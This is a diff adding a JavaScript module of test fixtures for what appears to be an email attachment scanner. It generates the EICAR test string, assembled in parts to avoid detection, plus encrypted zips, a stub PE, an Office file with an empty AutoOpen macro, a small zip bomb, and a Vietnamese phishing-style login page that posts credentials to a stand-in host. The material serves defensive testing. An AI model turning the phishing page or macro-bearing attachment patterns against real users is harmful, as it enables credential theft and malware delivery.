@@ -1,0 +1,244 @@
+// Attachment payloads for the fixtures and the tests: every file here is built from code, nothing is
+// copied from real malware. The EICAR test string and our own marker match the signatures in
+// test-fixtures/clamav/lachan-test.ndb. Both strings are assembled from parts so that this source
+// file itself is not detected by a virus scanner.
+import { deflateRawSync } from 'node:zlib';
+import { createRequire } from 'node:module';
+
+const require = createRequire(import.meta.url);
+const yazl = require('yazl');
+const CFB = require('cfb');
+
+/** The 68-byte EICAR anti-virus test file. */
+export const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', 'latin1');
+
+/** Matched by our own signature Lachan.Test.Marker (harmless text). */
+export const MARKER = 'LACHAN-TEST-MALWARE-' + 'MARKER-7f3a';
+
+const MTIME = new Date('2024-01-15T08:00:00Z');
+
+/** A zip of { name: Buffer } built with yazl (deflate unless `store`). */
+export function makeZip(files, { store = false } = {}) {
+  return new Promise((resolve, reject) => {
+    const zip = new yazl.ZipFile();
+    for (const [name, data] of Object.entries(files)) {
+      zip.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data), name, { mtime: MTIME, compress: !store });
+    }
+    const chunks = [];
+    zip.outputStream.on('data', (c) => chunks.push(c));
+    zip.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
+    zip.outputStream.on('error', reject);
+    zip.end();
+  });
+}
+
+// ---- traditional PKWARE (ZipCrypto) encryption, enough for a real encrypted entry ----
+const CRC_TABLE = (() => {
+  const t = new Uint32Array(256);
+  for (let n = 0; n < 256; n++) {
+    let c = n;
+    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    t[n] = c >>> 0;
+  }
+  return t;
+})();
+const crcByte = (crc, b) => (CRC_TABLE[(crc ^ b) & 0xff] ^ (crc >>> 8)) >>> 0;
+function crc32(buf) {
+  let c = 0xffffffff;
+  for (const b of buf) c = crcByte(c, b);
+  return (c ^ 0xffffffff) >>> 0;
+}
+
+function zipCrypto(password, plain, checkByte) {
+  let k0 = 0x12345678, k1 = 0x23456789, k2 = 0x34567890;
+  const update = (b) => {
+    k0 = crcByte(k0, b);
+    k1 = (Math.imul((k1 + (k0 & 0xff)) >>> 0, 134775813) + 1) >>> 0;
+    k2 = crcByte(k2, k1 >>> 24);
+  };
+  for (const b of Buffer.from(password)) update(b);
+  // 12-byte header: fixed filler (deterministic fixtures), last byte = high byte of the CRC.
+  const header = Buffer.from([0x4c, 0x61, 0x43, 0x68, 0x61, 0x6e, 0x54, 0x65, 0x73, 0x74, 0x21, checkByte]);
+  const input = Buffer.concat([header, plain]);
+  const out = Buffer.alloc(input.length);
+  for (let i = 0; i < input.length; i++) {
+    const t = (k2 | 2) & 0xffff;
+    const ks = ((t * (t ^ 1)) >>> 8) & 0xff;
+    out[i] = input[i] ^ ks;
+    update(input[i]);
+  }
+  return out;
+}
+
+/** A zip whose single entry is deflated and encrypted with ZipCrypto (what `zip -e -P` makes). */
+export function makeEncryptedZip(name, data, password) {
+  const crc = crc32(data);
+  const deflated = deflateRawSync(data);
+  const body = zipCrypto(password, deflated, crc >>> 24);
+  const nameBuf = Buffer.from(name);
+  const flags = 0x0001; // encrypted
+  const dosTime = 0x4000, dosDate = 0x582f;
+  const local = Buffer.alloc(30);
+  local.writeUInt32LE(0x04034b50, 0);
+  local.writeUInt16LE(20, 4);
+  local.writeUInt16LE(flags, 6);
+  local.writeUInt16LE(8, 8);
+  local.writeUInt16LE(dosTime, 10);
+  local.writeUInt16LE(dosDate, 12);
+  local.writeUInt32LE(crc, 14);
+  local.writeUInt32LE(body.length, 18);
+  local.writeUInt32LE(data.length, 22);
+  local.writeUInt16LE(nameBuf.length, 26);
+  local.writeUInt16LE(0, 28);
+  const central = Buffer.alloc(46);
+  central.writeUInt32LE(0x02014b50, 0);
+  central.writeUInt16LE(0x031e, 4);
+  central.writeUInt16LE(20, 6);
+  central.writeUInt16LE(flags, 8);
+  central.writeUInt16LE(8, 10);
+  central.writeUInt16LE(dosTime, 12);
+  central.writeUInt16LE(dosDate, 14);
+  central.writeUInt32LE(crc, 16);
+  central.writeUInt32LE(body.length, 20);
+  central.writeUInt32LE(data.length, 24);
+  central.writeUInt16LE(nameBuf.length, 28);
+  central.writeUInt32LE(0, 42); // local header offset
+  const localPart = Buffer.concat([local, nameBuf, body]);
+  const centralPart = Buffer.concat([central, nameBuf]);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(1, 8);
+  end.writeUInt16LE(1, 10);
+  end.writeUInt32LE(centralPart.length, 12);
+  end.writeUInt32LE(localPart.length, 16);
+  return Buffer.concat([localPart, centralPart, end]);
+}
+
+/** A minimal (not runnable) PE: MZ header pointing at a PE signature. */
+export function makePe() {
+  const b = Buffer.alloc(512);
+  b.write('MZ', 0, 'latin1');
+  b.writeUInt32LE(0x80, 0x3c);
+  b.write('This program cannot be run in DOS mode.', 0x40, 'latin1');
+  b.write('PE\0\0', 0x80, 'latin1');
+  b.writeUInt16LE(0x014c, 0x84); // i386
+  return b;
+}
+
+/** A small valid one-page PDF with a line of text. */
+export function makePdf(text = 'Lá Chắn test document') {
+  const stream = `BT /F1 18 Tf 72 720 Td (${text.normalize('NFD').replace(/[^\x20-\x7e]/g, '')}) Tj ET`;
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ];
+  let out = '%PDF-1.4\n';
+  const offsets = [];
+  objects.forEach((o, i) => {
+    offsets.push(out.length);
+    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
+  });
+  const xref = out.length;
+  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
+  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
+  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(out, 'latin1');
+}
+
+const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const DOC_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';
+
+function documentXml(text) {
+  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;
+}
+
+/** A minimal Word document (.docx), or with `macros` a .docm carrying word/vbaProject.bin. */
+export function makeWordDocument({ macros = false, text = 'Báo cáo tháng' } = {}) {
+  const main = macros
+    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
+    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+  const types =
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
+    `<Default Extension="xml" ContentType="application/xml"/>` +
+    (macros ? `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` : '') +
+    `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
+  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${REL_NS}"><Relationship Id="rId1" Type="${DOC_REL}" Target="word/document.xml"/></Relationships>`;
+  const files = {
+    '[Content_Types].xml': types,
+    '_rels/.rels': rels,
+    'word/document.xml': documentXml(text),
+  };
+  if (macros) {
+    files['word/_rels/document.xml.rels'] =
+      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${REL_NS}"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`;
+    files['word/vbaProject.bin'] = makeVbaStorage();
+  }
+  return makeZip(files);
+}
+
+function vbaStreams(container, prefix) {
+  const add = (p, data) => CFB.utils.cfb_add(container, prefix + p, Buffer.from(data));
+  add('PROJECT', 'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n');
+  add('VBA/_VBA_PROJECT', Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]));
+  add('VBA/dir', Buffer.from([0x01, 0x00, 0x00]));
+  add('VBA/ThisDocument', "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  ' harmless test macro\r\nEnd Sub\r\n");
+}
+
+/** The vbaProject.bin an OOXML document carries (an OLE file with a VBA storage). */
+export function makeVbaStorage() {
+  const c = CFB.utils.cfb_new();
+  vbaStreams(c, '/');
+  return Buffer.from(CFB.write(c, { type: 'buffer' }));
+}
+
+/** A legacy Word (.doc) OLE file with a Macros/VBA storage. */
+export function makeOleDocWithMacros() {
+  const c = CFB.utils.cfb_new();
+  CFB.utils.cfb_add(c, '/WordDocument', Buffer.alloc(1024, 0));
+  CFB.utils.cfb_add(c, '/1Table', Buffer.alloc(512, 0));
+  vbaStreams(c, '/Macros/');
+  return Buffer.from(CFB.write(c, { type: 'buffer' }));
+}
+
+/** A legacy Word (.doc) OLE file without macros. */
+export function makeOleDoc() {
+  const c = CFB.utils.cfb_new();
+  CFB.utils.cfb_add(c, '/WordDocument', Buffer.alloc(1024, 0));
+  CFB.utils.cfb_add(c, '/1Table', Buffer.alloc(512, 0));
+  return Buffer.from(CFB.write(c, { type: 'buffer' }));
+}
+
+/** An HTML "login page" that posts a password to an external host (example.net: reserved, never resolves to a real site). */
+export function makeCredentialHtml() {
+  return Buffer.from(`<!DOCTYPE html>
+<html lang="vi"><head><meta charset="utf-8"><title>Đăng nhập hộp thư</title></head>
+<body>
+<h1>Phiên đăng nhập đã hết hạn</h1>
+<form method="post" action="https://login.example.net/collect">
+  <label>Email <input type="email" name="u"></label>
+  <label>Mật khẩu <input type="password" name="p"></label>
+  <button type="submit">Đăng nhập</button>
+</form>
+</body></html>
+`);
+}
+
+/** A zip bomb in small: one entry of `size` zero bytes (ratio around 1000:1). */
+export function makeZipBomb(size = 20 * 1024 * 1024) {
+  return makeZip({ 'bao-cao.txt': Buffer.alloc(size, 0) });
+}
+
+/** Just a RAR 5 signature and a few bytes: enough for the true type, not a real archive. */
+export function makeRarHeader() {
+  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), Buffer.alloc(56, 0)]);
+}
+
+/** A 7-Zip signature header and padding. */
+export function make7zHeader() {
+  return Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]), Buffer.alloc(56, 0)]);
+}
